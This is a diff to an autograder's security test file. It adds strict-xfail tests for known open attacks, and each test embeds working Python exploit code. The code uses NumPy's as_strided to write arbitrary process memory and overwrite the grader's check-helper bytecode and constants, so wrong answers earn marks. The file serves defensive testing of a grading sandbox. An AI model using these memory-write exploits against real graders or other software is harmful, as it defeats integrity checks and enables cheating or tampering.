@@ -300,6 +300,15 @@ STOPS_THE_RUN = {"floods its output", "echoes every token the grader sends", "re
                  # a thread of the submission's still running: no later check can be trusted, so none passes
                  "patches the helpers' NumPy from a thread that keeps running", "starts a thread made of builtins only"}
 
+# Known open (red-team round 12, session 35): NumPy's as_strided with a stride that lands on any address reads and
+# writes the kernel's memory with no audit event, so a submission can overwrite, in place, the bytecode of the check
+# helpers (no object is replaced, so no comparison sees it). Nothing that runs in the submission's process can stand
+# against that; the way out is to compare in another process (see README). The test below is a strict xfail: it
+# fails the day this attack stops earning marks, so that this entry and the README are updated.
+KNOWN_OPEN = {
+    "overwrites the check helpers' bytecode in memory through NumPy's as_strided": "import numpy as np\nfrom numpy.lib.stride_tricks import as_strided\nimport course_utils.checks as _C\n\n_anchor = np.zeros(8, dtype=np.uint8)\n_base = _anchor.__array_interface__['data'][0]\n\ndef _byte_view(addr):\n    return as_strided(_anchor, shape=(2,), strides=(addr - _base,))   # element [1] is the byte at addr\n\ndef _read(addr, n):\n    return bytes(int(_byte_view(addr + i)[1]) for i in range(n))\n\ndef _write(addr, data):\n    for i, b in enumerate(data):\n        _byte_view(addr + i)[1] = b\n\ndef _probe(a, b=1):\n    x = a + b\n    return x\n\n_OFF = _read(id(_probe.__code__), 512).find(_probe.__code__.co_code)\n\nfor _f in (_C.check_that, _C.assert_close, _C.check_equal):\n    _code = _f.__code__\n    _k = next((i for i, c in enumerate(_code.co_consts) if c is None), 0)\n    _write(id(_code) + _OFF, [151, 0, 100, _k, 83, 0])     # RESUME 0; LOAD_CONST None; RETURN_VALUE\n",
+}
+
 # Attacks only a protection of the sandbox stops; where Linux refuses that protection (a container without
 # namespaces, say) the grader says so in every report, and the case is skipped here with that reason.
 NEEDS = {"reads the instructor's solution": "private root file system",
@@ -346,16 +355,17 @@ def graded(tmp_path_factory):
     on = " ".join(reports["victim"]["protections"]["on"])
     attacks = base / "attacks"                         # graded as a class folder, two at a time
     attacks.mkdir()
-    for i, (name, attack) in enumerate(ATTACKS.items()):
+    every = {**ATTACKS, **KNOWN_OPEN}
+    for i, (name, attack) in enumerate(every.items()):
         if NEEDS.get(name) and NEEDS[name] not in on:
             continue                                   # never run an attack this machine's sandbox cannot stop
         for key, value in fill.items():
             attack = attack.replace(f"@{key}@", repr(value))
-        write(submission(attack), attacks / f"attack{i:02d}_98_guarded.ipynb")
+        write(submission(attack), attacks / f"attack{i:03d}_98_guarded.ipynb")
     (attacks / "zz_link_98_guarded.ipynb").symlink_to(instructor_path)   # a link to the solution, handed in
     graded = grade_all(attacks, instructor, out, jobs=2, limits=limits)
     reports["a link to the instructor's notebook"] = graded.pop()
-    reports.update({name: r for name, r in zip([n for n in ATTACKS if not NEEDS.get(n) or NEEDS[n] in on], graded)})
+    reports.update({name: r for name, r in zip([n for n in every if not NEEDS.get(n) or NEEDS[n] in on], graded)})
     reports["after"] = grade(write(submission(solved=True), subs / "after_98_guarded.ipynb"), instructor, out, limits=limits)
     tempfile.tempdir = saved_tempdir
     yield {"reports": reports, "victim_bytes": victim_bytes, "out": out, "scratch": scratch}
@@ -382,6 +392,15 @@ def test_an_attack_earns_only_the_exercise_it_solved(graded, attack):
     assert report["total"] == 3 and report["notebook"].endswith("_98_guarded.ipynb")
     failed = {c["id"]: c["message"] for c in report["checks"] if not c["passed"]}
     assert {"ex98.1", "ex98.1.array"} <= set(failed) and all(failed.values()), failed
+
+
+@pytest.mark.xfail(strict=True, reason="known open: writes to the kernel's memory through NumPy (see KNOWN_OPEN)")
+@pytest.mark.parametrize("attack", list(KNOWN_OPEN))
+def test_a_known_open_attack_still_earns_marks(graded, attack):
+    report = graded["reports"][attack]
+    assert report["run"] == "finished" and report["total"] == 3, (report["run"], report["errors"])
+    passed = {c["id"] for c in report["checks"] if c["passed"]}
+    assert passed == {"ex98.2"}, f"{attack}: earned {sorted(passed)} with a wrong double()"
 
 
 def test_a_link_is_not_graded_as_the_file_it_names(graded):
@@ -912,9 +931,16 @@ WORKER_ATTACKS = {
 }
 
 
+# Known open, as KNOWN_OPEN above, in a worker (session 35, after red-team round 12): the grader's helper keeps its
+# identity while NumPy's as_strided overwrites its bytecode and constants in memory. Strict xfail.
+KNOWN_OPEN_WORKERS = {
+    "overwrites the bytecode of the helper the script calls, in memory through NumPy's as_strided": "def double(x, _keep=[]):\n    import numpy as np\n    from numpy.lib.stride_tricks import as_strided\n    import helper95\n    anchor = np.zeros(8, dtype=np.uint8)\n    base = anchor.__array_interface__['data'][0]\n    def view(addr):\n        return as_strided(anchor, shape=(2,), strides=(addr - base,))\n    def read(addr, n):\n        return bytes(int(view(addr + i)[1]) for i in range(n))\n    def write(addr, data):\n        for i, b in enumerate(data):\n            view(addr + i)[1] = b\n    def pointer(addr):\n        return int.from_bytes(read(addr, 8), 'little')\n    if not _keep:\n        code = pointer(id(helper95.as_number) + 48)        # PyFunctionObject.func_code (CPython 3.11)\n        consts = pointer(code + 24)                         # PyCodeObject.co_consts\n        offset = read(code, 400).find(bytes([151, 0]), 150)  # co_code_adaptive begins with RESUME 0\n        _keep.append(2 / 3); keep = _keep[0]\n        write(consts + 24, id(keep).to_bytes(8, 'little'))  # co_consts[0] -> 2/3\n        # RESUME 0; LOAD_FAST 0; LOAD_CONST 0; BINARY_OP 5 (*) + 1 cache unit; RETURN_VALUE\n        write(code + offset, [151, 0, 124, 0, 100, 0, 122, 5, 0, 0, 83, 0])\n    return 3 * x\n",
+}
+
+
 @pytest.fixture(scope="module")
 def workers_toy(tmp_path_factory):
-    answers = {"victim": WORKERS_TOY[2][0], "wrong": WRONG_TRIPLE_95, **WORKER_ATTACKS}
+    answers = {"victim": WORKERS_TOY[2][0], "wrong": WRONG_TRIPLE_95, **WORKER_ATTACKS, **KNOWN_OPEN_WORKERS}
     return grade_toy(tmp_path_factory.mktemp("workers"), WORKERS_TOY, "95_workers.ipynb", answers,
                      Limits(cell_seconds=60, total_seconds=120))
 
@@ -923,6 +949,13 @@ def test_workers_report_a_right_answer_and_not_a_wrong_one(workers_toy):
     assert (workers_toy["victim"]["score"], workers_toy["victim"]["total"]) == (1, 1), workers_toy["victim"]["checks"]
     assert workers_toy["wrong"]["score"] == 0
     assert "what each rank reported" in workers_toy["wrong"]["checks"][0]["message"], workers_toy["wrong"]["checks"]
+
+
+@pytest.mark.xfail(strict=True, reason="known open: writes to the worker's memory through NumPy (see KNOWN_OPEN)")
+@pytest.mark.parametrize("attack", list(KNOWN_OPEN_WORKERS))
+def test_a_known_open_attack_on_the_workers_still_earns_the_mark(workers_toy, attack):
+    report = workers_toy[attack]
+    assert report["total"] == 1 and report["score"] == 0, f"{attack}: scored {report['score']}/1 with a wrong double()"
 
 
 @pytest.mark.parametrize("attack", list(WORKER_ATTACKS))
